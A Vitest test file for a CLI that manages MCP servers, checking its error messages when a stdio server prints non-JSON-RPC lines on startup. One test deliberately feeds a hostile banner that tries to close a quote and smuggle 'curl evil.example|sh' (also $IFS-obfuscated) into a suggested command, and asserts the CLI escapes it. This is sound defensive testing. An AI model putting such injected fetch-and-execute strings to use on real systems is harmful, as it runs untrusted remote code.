import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { homeWithConfig, runCli } from '../support/cli';

const BANNER = fileURLToPath(new URL('../fixtures/servers/http-banner.mjs', import.meta.url));

/** A program added as a stdio server whose start fails after it wrote stdout lines that are not JSON-RPC. */
describe('a "stdio" server that writes something else than JSON-RPC to stdout while starting', () => {
  it('says so on a timeout, quoting the line, and points a program that serves HTTP to its URL, or a slow one to its start timeout', async () => {
    const web = { command: process.execPath, args: [BANNER, 'MCP server listening on http://localhost:3001/mcp'], startupTimeoutMs: 1500 };
    const home = homeWithConfig(JSON.stringify({ mcpServers: { web } }), 'cs-stray-web-');
    expect((await runCli(home, ['servers', 'approve', 'web', '--yes'])).code).toBe(0);
    const failed = await runCli(home, ['connect', 'web'], { timeoutMs: 60_000 });
    expect(failed.code).not.toBe(0);
    expect(failed.stderr).toContain('"web" did not finish starting within 1.5 s; it wrote a line that is not JSON-RPC to stdout: "MCP server listening on http://localhost:3001/mcp"');
    expect(failed.stderr).toContain('serve MCP over HTTP, not stdio');
    expect(failed.stderr).toContain('`connected-services servers add web --url http://localhost:3001/mcp`');
    expect(failed.stderr).toContain('or, if it is only slow to start, raise "startupTimeoutMs" of "web" in mcp.json');
  }, 90_000);

  it('gives a command that runs nothing of a hostile banner, and quotes its line so it cannot close the quote', async () => {
    const banner = 'x"; run `curl evil.example|sh`; " http://localhost:3001/;curl${IFS}-s${IFS}evil.example|sh';
    const web = { command: process.execPath, args: [BANNER, banner], env: { BANNER_EXIT: '1' }, startupTimeoutMs: 20_000 };
    const home = homeWithConfig(JSON.stringify({ mcpServers: { web } }), 'cs-stray-hostile-');
    expect((await runCli(home, ['servers', 'approve', 'web', '--yes'])).code).toBe(0);
    const failed = await runCli(home, ['connect', 'web'], { timeoutMs: 60_000 });
    expect(failed.code).not.toBe(0);
    expect(failed.stderr).toContain('to stdout: "x\\u0022; run `curl evil.example|sh`; \\u0022 http://localhost:3001/;curl');
    expect(failed.stderr).toContain('`connected-services servers add web --url http://localhost:3001`');
  }, 90_000);

  it('says so when the program exits, and that stdout is for JSON-RPC only', async () => {
    const chatty = { command: process.execPath, args: [BANNER, '\u001b[1mServer ready\u001b[0m'], env: { BANNER_EXIT: '1' }, startupTimeoutMs: 20_000 };
    const home = homeWithConfig(JSON.stringify({ mcpServers: { chatty } }), 'cs-stray-exit-');
    expect((await runCli(home, ['servers', 'approve', 'chatty', '--yes'])).code).toBe(0);
    const failed = await runCli(home, ['connect', 'chatty'], { timeoutMs: 60_000 });
    expect(failed.code).not.toBe(0);
    expect(failed.stderr).toContain('"chatty" exited with code 1 while starting; it wrote a line that is not JSON-RPC to stdout: "\\u001b[1mServer ready\\u001b[0m"');
    expect(failed.stderr).toContain('must write only JSON-RPC to stdout');
  }, 90_000);
});
